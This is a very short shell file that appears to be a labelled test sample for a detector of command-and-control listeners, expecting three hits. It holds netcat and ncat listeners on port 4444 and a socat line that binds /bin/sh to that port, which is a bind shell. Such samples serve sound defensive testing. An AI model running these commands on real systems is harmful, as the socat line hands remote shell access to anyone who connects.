#!/bin/sh
# Netcat and socat listen for connections.
# expects: command_and_control_listener 3

nc -lvnp 4444
ncat --listen 4444
socat TCP-LISTEN:4444,fork EXEC:/bin/sh
